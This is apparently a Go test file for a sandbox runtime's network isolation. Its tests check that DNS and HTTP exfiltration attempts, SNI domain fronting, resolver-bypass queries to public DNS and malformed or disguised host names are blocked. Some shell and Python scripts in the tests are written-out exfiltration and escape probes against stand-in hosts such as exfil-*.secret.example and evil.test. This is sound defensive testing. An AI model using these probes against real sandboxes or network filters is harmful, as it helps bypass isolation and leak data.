func startDNSRecorder(t *testing.T, addr string, answers ...string) *dnsRecorder {
	t.Helper()
	d := &dnsRecorder{addr: addr, answers: map[string]bool{}}
	for _, a := range answers {
		d.answers[a] = true
	}
	pc, err := net.ListenPacket("udp", addr+":53")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	ln, err := net.Listen("tcp", addr+":53")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		buf := make([]byte, 4096)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			if reply := d.answer(buf[:n]); reply != nil {
				pc.WriteTo(reply, from)
			}
		}
	}()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(5 * time.Second))
				var hdr [2]byte
				for {
					if _, err := io.ReadFull(c, hdr[:]); err != nil {
						return
					}
					q := make([]byte, int(hdr[0])<<8|int(hdr[1]))
					if _, err := io.ReadFull(c, q); err != nil {
						return
					}
					reply := d.answer(q)
					if reply == nil {
						return
					}
					c.Write(append([]byte{byte(len(reply) >> 8), byte(len(reply))}, reply...))
				}
			}()
		}
	}()
	return d
}

// answer records the question's name and answers it.
func (d *dnsRecorder) answer(q []byte) []byte {
	if len(q) < 12 {
		return nil
	}
	var labels []string
	i := 12
	for i < len(q) && q[i] != 0 && int(q[i]) < 64 && i+1+int(q[i]) <= len(q) {
		labels = append(labels, string(q[i+1:i+1+int(q[i])]))
		i += 1 + int(q[i])
	}
	if i+5 > len(q) {
		return nil
	}
	name := strings.ToLower(strings.Join(labels, "."))
	qtype := int(q[i+1])<<8 | int(q[i+2])
	d.mu.Lock()
	d.names = append(d.names, name)
	d.mu.Unlock()
	question := q[12 : i+5]
	r := append([]byte{q[0], q[1], 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0}, question...)
	switch {
	case !d.answers[name]:
		r[3] |= 3 // NXDOMAIN
	case qtype == 1:
		r[7] = 1
		r = append(r, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4, 127, 0, 0, 1)
	}
	return r
}

func (d *dnsRecorder) asked() []string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([]string(nil), d.names...)
}

// TestEscapeCaptureDNSNeverLeaves: no name the sandbox asks about, or
// tries to connect to, reaches the host's resolver unless the settings
// allow connecting to it: every record type through the sandbox's name
// server (UDP and TCP), queries sent to public resolvers (UDP, which the
// rules lead to the sandbox's own server; TCP, which is captured and
// decided; IPv6), to the recorder's own address, a connection to a name
// not on the list (captured, through the HTTP proxy, through SOCKS with
// remote names) and to a denied one. The host's resolver here is a
// recorder on 127.0.0.77 (srt's /etc/resolv.conf, in a mount namespace).
//
// Control: a connection to an allowed name is looked up (the recorder
// sees it, and answers 127.0.0.1: the service is reached), so the
// recorder sees what srt-proxy asks.
func TestEscapeCaptureDNSNeverLeaves(t *testing.T) {
	up := startHitCounter(t, "allowed-service", "127.0.0.1")
	rec := startDNSRecorder(t, "127.0.0.77", "leak-control.test")
	p := itoa(up.port)
	script := `for t in A AAAA TXT MX ANY; do dig +short +time=2 +tries=1 exfil-$t.secret.example $t; done; ` +
		`dig +short +tcp +time=2 +tries=1 exfil-tcp.secret.example TXT; ` +
		`dig +short +time=2 +tries=1 @8.8.8.8 exfil-udp-public.secret.example TXT; ` +
		`dig +short +tcp +time=2 +tries=1 @8.8.8.8 exfil-tcp-public.secret.example TXT; ` +
		`dig +short +time=2 +tries=1 @127.0.0.77 exfil-recorder.secret.example; ` +
		`dig +short +time=2 +tries=1 -6 @2001:4860:4860::8888 exfil-v6.secret.example; ` +
		`getent hosts exfil-getent.secret.example; ` +
		`curl -sS -m 5 --noproxy '*' http://exfil-captured.secret.example:` + p + `/ ; ` +
		`curl -sS -m 5 http://exfil-proxy.secret.example:` + p + `/ ; ` +
		`curl -sS -m 5 -x socks5h://$(echo $ALL_PROXY | sed 's|^http://||; s|:3128$|:1080|') http://exfil-socks.secret.example:` + p + `/ ; ` +
		`curl -sS -m 5 --noproxy '*' http://exfil.denied.test:` + p + `/ ; ` +
		`python3 connect.py 'control=leak-control.test,` + p + `'`
	forEach(t, func(t *testing.T, w *workspace) {
		w.write("home/proj/connect.py", connectProbe)
		files := map[string]string{"/etc/resolv.conf": "nameserver 127.0.0.77\noptions timeout:2 attempts:1\n"}
		s := w.settings(`{"network":{"allowedDomains":["leak-control.test","127.0.0.1:` + p + `"],"deniedDomains":["denied.test"]},"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]}}`)
		before := len(rec.asked())
		r := w.runEtc(files, filepath.Join(bin, "srt"), "-s", s, "--show-violations", "-c", script)
		t.Logf("%s", r)
		asked := rec.asked()[before:]
		t.Logf("the host's resolver was asked: %q", asked)
		for _, n := range asked {
			if strings.Contains(n, "exfil") {
				t.Errorf("a name the sandbox asked about left it: %q", n)
			}
		}
		expect(t, r, 0, "control got HTTP/1.0 200 allowed-service",
			"deny network-outbound exfil-captured.secret.example:"+p, "deny network-outbound 8.8.8.8:53")
		if !strings.Contains(strings.Join(asked, " "), "leak-control.test") {
			t.Fatalf("control: the recorder never saw the allowed name")
		}
	})
}

// TestCapturePublicResolverUDP: a program with a resolver of its own (dig
// @8.8.8.8, a client with a hard-coded public server) is answered by the
// sandbox's name server: the rules DNAT every IPv4 UDP datagram to port 53
// to 127.0.0.53:53 (docs/architecture.md, "The network namespace"). The
// review found it was not: the name server's reply (from 127.0.0.53 to
// the namespace's 198.18.0.1, where the query came from) is itself a UDP
// datagram to an address outside 127.0.0.0/8, which the filter rule
// "OUTPUT -p udp ! -d 127.0.0.0/8 REJECT" rejected, so the program waited
// out its timeout; an ACCEPT for the name server's answers now comes
// first. Not an escape (nothing leaves), a promise that did not hold.
//
// Control: the same query to 127.0.0.1:53 (DNATed from a loopback source)
// and to 127.0.0.53 itself are answered.
func TestCapturePublicResolverUDP(t *testing.T) {
	skipOnLandlock(t)
	forEach(t, func(t *testing.T, w *workspace) {
		r := w.sh(netSettings(nil, nil, ""), `for s in 127.0.0.53 127.0.0.1 8.8.8.8 198.18.0.1; do echo "$s: $(dig +short +time=2 +tries=1 @$s app.test A 2>/dev/null | head -1)"; done`)
		t.Logf("%s", r)
		expect(t, r, 0, "127.0.0.53: 198.18.128.", "127.0.0.1: 198.18.128.")
		for _, s := range []string{"8.8.8.8", "198.18.0.1"} {
			if !strings.Contains(r.stdout, s+": 198.18.128.") {
				t.Errorf("a query to %s:53 (UDP) is not answered by the sandbox's name server", s)
			}
		}
	})
}

// TestEscapeCaptureTLSServerName: under tlsTerminate a captured
// connection to an IP address is decided by its ClientHello's server name
// when it has one, and then goes to that name: a server name that is not
// on the list is refused, even where the address itself is listed
// ("127.0.0.1:port"), and so is one in excludeDomains (which only changes
// how an allowed name is tunnelled). A captured connection to an allowed
// name's fake address with another server name and Host reaches only the
// allowed name's host (the fake address decides).
//
// Controls: the listed name's server name is reached through the same
// listed address, and so is the address itself without a server name.
func TestEscapeCaptureTLSServerName(t *testing.T) {
	up := startTLSUpstream(t)
	pt := itoa(up.port)
	hosts := "127.0.0.1 localhost\n127.0.0.1 tls.test\n127.0.0.1 pinned.test\n127.0.0.1 evil.test\n"
	forEach(t, func(t *testing.T, w *workspace) {
		s := w.settings(`{"network":{"allowedDomains":["tls.test","127.0.0.1:` + pt + `"],"deniedDomains":[],` +
			`"tlsTerminate":{"extraCaCertPaths":["` + up.caFile(w) + `"],"excludeDomains":["pinned.test"]}},` +
			`"filesystem":{"denyRead":["/etc/hosts"],"allowWrite":["."],"denyWrite":[]}}`)
		c := `curl -sS -m 10 --noproxy '*' `
		script := resetFn +
			c + `--resolve evil.test:` + pt + `:127.0.0.1 https://evil.test:` + pt + `/sni-evil; echo "sni-evil=$?"; ` +
			c + `--resolve pinned.test:` + pt + `:127.0.0.1 https://pinned.test:` + pt + `/sni-pinned; echo "sni-pinned=$?"; ` +
			c + `--connect-to evil.test:` + pt + `:tls.test:` + pt + ` https://evil.test:` + pt + `/fronted | head -1; echo "fronted=$(reset ${PIPESTATUS[0]})"; ` +
			c + `--resolve tls.test:` + pt + `:127.0.0.1 https://tls.test:` + pt + `/sni-tls | head -1; ` +
			c + `https://127.0.0.1:` + pt + `/no-sni | head -1`
		r := w.runEtc(map[string]string{"/etc/hosts": hosts}, filepath.Join(bin, "srt"), "-s", s, "--show-violations", "-c", script)
		t.Logf("%s", r)
		expect(t, r, 0, "sni-evil=35", "sni-pinned=35", "curl: (35) Recv failure: Connection reset by peer",
			// The fake address decides: the request goes to tls.test.
			"upstream saw https GET /fronted host=evil.test:"+pt,
			"deny network-outbound evil.test:"+pt, "deny network-outbound pinned.test:"+pt,
			"!/sni-evil host", "!/sni-pinned host",
			"upstream saw https GET /sni-tls host=tls.test:"+pt, "upstream saw https GET /no-sni host=127.0.0.1:"+pt)
	})
}

// TestEscapeCapturePerCommandLists: a command's own list (the library's
// RegisterCommandNetwork) applies to its captured connections only: its
// loopback entry leads that port to the host in its namespace alone, and
// a name it may reach is refused, with a violation, to another command of
// the same Manager (the same srt-proxy and name server), which has no
// way to claim the first one's attribution: the capture listener says
// whose connection it is.
//
// Control: the command with the list reaches the host's service, and its
// captured connection to the name is allowed by its list (then refused by
// the resolved-address check, as its CONNECT is).
func TestEscapeCapturePerCommandLists(t *testing.T) {
	svc := startHitCounter(t, "own-service", "127.0.0.1")
	p := itoa(svc.port)
	id := "command-a-secret-id-0123456789"
	hosts := "127.0.0.1 localhost\n127.0.0.1 own.test\n"
	forEach(t, func(t *testing.T, w *workspace) {
		w.write("home/proj/connect.py", connectProbe)
		svc.reset()
		s := w.settings(`{"network":{"allowedDomains":["unrelated.test"],"deniedDomains":[]},"filesystem":{"denyRead":["/etc/hosts"],"allowWrite":["."],"denyWrite":[]}}`)
		probe := "python3 connect.py 'addr=127.0.0.1," + p + "' 'name=own.test," + p + "'"
		r := w.runEtc(map[string]string{"/etc/hosts": hosts}, libhost(t), s, "-register", id+"=127.0.0.1:"+p+",own.test",
			"a|"+id+"|"+probe, "b||"+probe)
		t.Logf("%s", r)
		// Command a's list allows own.test; the resolved-address check then
		// refuses its loopback address, as for a CONNECT (a command's own
		// IP literals exempt nothing there, unlike the settings' ones).
		expect(t, r, 0, "[a] addr got HTTP/1.0 200 own-service",
			"violation [a] deny network-outbound own.test:"+p+" (resolved to a loopback address)",
			"[b] addr errno 111", "[b] name errno 104", "violation [b] deny network-outbound own.test:"+p+" (host is not on the allow list)")
		if n := len(svc.seen()); n != 1 {
			t.Fatalf("the host's service saw %d connections, want command a's 1: %q", n, svc.seen())
		}
	})
}

// nameTricks is Python for the sandbox: it asks the sandbox's name server
// about names spelled to confuse a decision (letter case, a trailing dot,
// a dot inside a label, NUL and non-ASCII bytes, over-long labels and
// names, addresses in disguise, wildcards, ports) and connects to every
// address it is given, at PORT, printing "LABEL rcode=N addr=A" and what
// the connection met.
const nameTricks = `import sys, socket; sys.path.insert(0, ".")
from dnsclient import *
port = int(sys.argv[1])
names = {
    "plain": "app.test", "upper-dot": "APP.TEST.", "dot-in-label": [b"app.test"], "nul": [b"app\0", b"test"],
    "nul-suffix": [b"app", b"test\0.evil"], "utf8": "\u00e4pp.test", "punycode": "xn--pp-via.test",
    "label64": "a" * 64 + ".test", "name256": ".".join(["a" * 63] * 4) + ".test", "star": "*.app.test",
    "port": "app.test:80", "underscore": "app_test.test", "hex-ip": "0x7f.1", "dotted-ip": "127.0.0.1",
    "short-ip": "127.1", "decimal-ip": "2130706433", "bracket": "[::1]", "percent": "app.test%lo",
    "localhost": "LOCALHOST.", "sub-localhost": "evil.localhost", "space": "app test.test",
}
for label, name in names.items():
    for qtype in (1, 28):
        try:
            rcode, addr = ask(name, qtype)
        except SystemExit:
            print(label, qtype, "no answer"); continue
        line = "%s %d rcode=%d addr=%s" % (label, qtype, rcode, addr)
        if addr and qtype == 1:
            try:
                c = socket.create_connection((addr, port), 5); c.sendall(b"GET /" + label.encode() + b" HTTP/1.0\r\n\r\n")
                d = c.recv(100); line += " got " + (d.split(b"\r\n")[0].decode() if d else "eof")
            except OSError as e:
                line += " errno %d" % e.errno
        print(line)
`

// TestEscapeCaptureNameTricks: what the sandbox's name server gives an
// address to is a host name srt decides as spelled: letter case and a
// trailing dot fold to the same name (and the same address); NUL,
// non-ASCII, '*', ':', '%' and spaces in a name, over-long labels and
// names, and names that spell an IPv4 address in any form get no address
// (NXDOMAIN, or FORMERR for what the wire cannot carry back); a label
// holding a dot is the dotted name (the same string is decided and
// dialled). Every violation names a canonical host.
//
// Control: the allowed name, however spelled, is reached.
func TestEscapeCaptureNameTricks(t *testing.T) {
	up := startHitCounter(t, "app", "127.0.0.1")
	p := itoa(up.port)
	forEach(t, func(t *testing.T, w *workspace) {
		w.write("home/proj/dnsclient.py", dnsClient)
		w.write("home/proj/names.py", nameTricks)
		s := w.settings(captureNameSettings([]string{"app.test", "127.0.0.1:" + p}, ""))
		r := w.withHosts(captureHosts, "-s", s, "--show-violations", "-c", "python3 names.py "+p)
		t.Logf("%s", r)
		expect(t, r, 0,
			"plain 1 rcode=0 addr=198.18.128.", "plain 1 rcode=0 addr=198.18.128.1 got HTTP/1.0 200 app",
			"upper-dot 1 rcode=0 addr=198.18.128.1 got HTTP/1.0 200 app",
			"nul 1 rcode=3 addr=None", "nul-suffix 1 rcode=3", "utf8 1 rcode=3", "star 1 rcode=3", "port 1 rcode=3",
			"hex-ip 1 rcode=3", "dotted-ip 1 rcode=3", "short-ip 1 rcode=3", "decimal-ip 1 rcode=3", "bracket 1 rcode=3",
			"percent 1 rcode=3", "space 1 rcode=3", "label64 1 rcode=1", "name256 1 rcode=1",
			"localhost 1 rcode=0 addr=127.0.0.1", "sub-localhost 1 rcode=0 addr=127.0.0.1")
		for _, l := range strings.Split(r.stderr, "\n") {
			host, ok := strings.CutPrefix(l, "deny network-outbound ")
			if !ok {
				continue
			}
			host = host[:strings.LastIndex(host[:strings.Index(host, " (")], ":")]
			for _, c := range host {
				if !(c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '.' || c == '-' || c == '_') {
					t.Fatalf("a violation names a host that is not canonical: %q", l)
				}
			}
		}
	})
}

// runUpdated runs srt (with captureHosts) reading --control-fd 3; once
// its output shows marker it writes update there and, once that has had
// time to reach srt-proxy, creates the file "go" in the working directory
// for the command to wait on. It returns the output.
func (w *workspace) runUpdated(update, marker string, args ...string) string {
	w.t.Helper()
	rd, wr, err := os.Pipe()
	if err != nil {
		w.t.Fatal(err)
	}
	defer wr.Close()
	cmd := w.hostsCommand(captureHosts, bin+"/srt", []string{"SRT_DEBUG=1"}, append([]string{"--control-fd", "3"}, args...)...)
	cmd.ExtraFiles = []*os.File{rd}
	out, errs := &syncBuffer{}, &syncBuffer{}
	cmd.Stdout, cmd.Stderr = out, errs
	if err := cmd.Start(); err != nil {
		w.t.Fatal(err)
	}
	rd.Close()
	waitFor(w.t, func() bool { return strings.Contains(out.String(), marker) }, marker+":\n"+out.String())
	wr.Write([]byte(update + "\n"))
	// srt says so under -d once the decider (and srt-proxy) have the lists.
	waitFor(w.t, func() bool { return strings.Contains(errs.String(), "srt: debug: Config updated from control fd:") }, "the update to be applied:\n"+errs.String())
	w.write("home/proj/go", "")
	waitExit(w.t, cmd, out)
	// The stderr lines the callers look for (violations, warnings), without
	// the debug ones.
	var kept []string
	for _, l := range strings.SplitAfter(errs.String(), "\n") {
		if !strings.HasPrefix(l, "srt: debug:") && !strings.HasPrefix(l, "srt-proxy: debug") {
			kept = append(kept, l)
		}
	}
	return out.String() + strings.Join(kept, "")
}

// TestEscapeCaptureControlFDRevoke: a --control-fd update that takes a
// loopback entry and a name off the list refuses the next captured
// connection to them (the NAT rule for the entry stays, srt-proxy asks
// again), with a violation, however the address is spelled.
//
// Control: before the update both are reached.
func TestEscapeCaptureControlFDRevoke(t *testing.T) {
	up := startUpstream(t)
	p := itoa(up.port)
	forEach(t, func(t *testing.T, w *workspace) {
		w.write("home/proj/connect.py", connectProbe)
		allow := captureNameSettings([]string{"app.test", "127.0.0.1:" + p}, "")
		s := w.settings(allow)
		script := `python3 connect.py 'before-addr=127.0.0.1,` + p + `' 'before-name=app.test,` + p + `'; echo first-done; ` +
			`for i in $(seq 400); do [ -e go ] && break; sleep 0.05; done; ` +
			`python3 connect.py 'after-addr=127.0.0.1,` + p + `' 'after-name=app.test,` + p + `' 'after-zero=0.0.0.0,` + p + `' 'after-mapped=::ffff:127.0.0.1,` + p + `'`
		got := w.runUpdated(captureNameSettings([]string{"other.test"}, ""), "first-done", "-s", s, "--show-violations", "-c", script)
		t.Logf("%s", got)
		for _, f := range []string{"before-addr got HTTP/1.0 200 OK", "before-name got HTTP/1.0 200 OK",
			"after-addr errno 104", "after-name errno 104", "after-zero errno 104", "after-mapped errno 104",
			"deny network-outbound 127.0.0.1:" + p, "deny network-outbound app.test:" + p} {
			if !strings.Contains(got, f) {
				t.Fatalf("output lacks %q", f)
			}
		}
	})
}

// TestCaptureOffFindingWarnings: where capture cannot be had — the kernel
// refuses the rules (as one without nftables NAT does; here: more
// loopback ports than the one netlink batch holds, a refusal the settings
// can reach) — srt warns on one line and the sandbox is the proxies'
// alone, without routes; nothing leaks. The README's own example,
// "allowedDomains": ["127.0.0.1:8765"], is then broken again for curl and
// Python (NO_PROXY sends them straight to the sandbox's own loopback):
// the warning says so, naming the first entries and how many more. (The
// review found it did not; and when both families failed, the second
// error came on a line of its own without "srt: warning:".)
//
// Control: with the rules in place, the same curl (proxy variables and
// all) reaches the service, and a raw connection too.
func TestCaptureOffFindingWarnings(t *testing.T) {
	skipOnLandlock(t)
	svc := startUpstream(t)
	p := itoa(svc.port)
	many := []string{"127.0.0.1:" + p}
	for port := 20000; port < 27000; port++ {
		many = append(many, "localhost:"+itoa(port))
	}
	script := `curl -sS -m 5 http://127.0.0.1:` + p + `/with-proxy-vars | head -1; echo "curl=${PIPESTATUS[0]}"; python3 -c 'import socket; socket.create_connection(("198.18.0.9", 80), 3).recv(1)' 2>&1 | tail -1`
	forEach(t, func(t *testing.T, w *workspace) {
		// Control.
		r := w.srt("-s", w.settings(netSettings([]string{"127.0.0.1:" + p}, nil, "")), "-c", script)
		expect(t, r, 0, "upstream saw GET /with-proxy-vars", "curl=0", "Connection reset by peer", "!warning")
		r = w.srt("-s", w.settings(netSettings(many, nil, "")), "-c", script)
		t.Logf("refused: %s", r)
		// Nothing leaks.
		expect(t, r, 0, "srt: warning:", "the capture rules could not be installed: 14001 loopback destinations", "message too long",
			"Network is unreachable", "!upstream saw GET")
		for _, l := range strings.Split(strings.TrimSpace(r.stderr), "\n") {
			if !strings.HasPrefix(l, "srt: warning: ") && !strings.HasPrefix(l, "curl: ") {
				t.Errorf("a line of srt's warning without its prefix: %q", l)
			}
		}
		if !strings.Contains(r.stderr, "the allowedDomains entries 127.0.0.1:"+p+", 127.0.0.1:20000, [::1]:20000, ") || !strings.Contains(r.stderr, ", and 13993 more reach the host's service only through the proxy variables") {
			t.Errorf("the allowedDomains entry 127.0.0.1:%s no longer works for curl, which honours the proxy variables, and the warning does not say so in a few words", p)
		}
	})
}

// TestEscapeCaptureFirstInstruction: the command's very first instruction
// already finds the rules in place (the init stage waits for srt's word
// that they are): a connection to a listed loopback port reaches the host
// rather than the sandbox's own loopback (ECONNREFUSED), and a UDP
// datagram out is refused at once rather than routed into nothing.
// Several runs, as a race would show only sometimes.
//
// Control: the same first instruction to an unlisted port meets the
// sandbox's own loopback.
func TestEscapeCaptureFirstInstruction(t *testing.T) {
	skipOnLandlock(t)
	up := startUpstream(t)
	p := itoa(up.port)
	forEach(t, func(t *testing.T, w *workspace) {
		s := w.settings(netSettings([]string{"127.0.0.1:" + p}, nil, ""))
		for i := range 4 {
			r := w.srt("-s", s, "-c", `exec 3<>/dev/tcp/127.0.0.1/`+p+` && printf 'GET /first HTTP/1.0\r\n\r\n' >&3 && head -1 <&3; `+
				`echo x > /dev/udp/198.18.0.9/9; echo "udp=$?"; exec 4<>/dev/tcp/127.0.0.1/`+itoa(up.port+1)+`; echo "other=$?"`)
			if i == 0 {
				t.Logf("%s", r)
			}
			expect(t, r, 0, "HTTP/1.0 200 OK", "udp=1", "Operation not permitted", "other=1", "Connection refused")
		}
	})
}
